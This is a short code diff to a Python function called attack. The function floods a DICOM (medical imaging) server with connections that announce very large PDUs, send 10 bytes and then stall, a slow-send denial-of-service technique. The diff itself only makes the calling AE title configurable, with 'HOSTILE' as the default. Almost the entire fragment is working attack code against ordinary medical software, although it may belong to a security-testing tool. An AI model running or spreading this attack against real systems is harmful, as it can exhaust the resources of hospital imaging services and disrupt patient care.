@@ -64,11 +64,12 @@ class Attack:
         return True
 
 
-def attack(host: str, port: int, called_ae: str, *, large_p_data: int = 100, large_requests: int = 100) -> Attack:
-    """`large_p_data` connections associate and announce a 4 MB P-DATA-TF; `large_requests` announce a
-    1 MB A-ASSOCIATE-RQ. Each then sends 10 bytes of the body and waits."""
+def attack(host: str, port: int, called_ae: str, *, calling_ae: str = "HOSTILE", large_p_data: int = 100,
+           large_requests: int = 100) -> Attack:
+    """`large_p_data` connections associate as `calling_ae` and announce a 4 MB P-DATA-TF; `large_requests`
+    announce a 1 MB A-ASSOCIATE-RQ. Each then sends 10 bytes of the body and waits."""
     found = Attack()
-    request = pdu.associate_rq(called_ae, "HOSTILE", [(Verification, ["1.2.840.10008.1.2"])], 16384)
+    request = pdu.associate_rq(called_ae, calling_ae, [(Verification, ["1.2.840.10008.1.2"])], 16384)
     for _ in range(large_p_data):
         sock = socket.create_connection((host, port), timeout=10)
         sock.sendall(request)
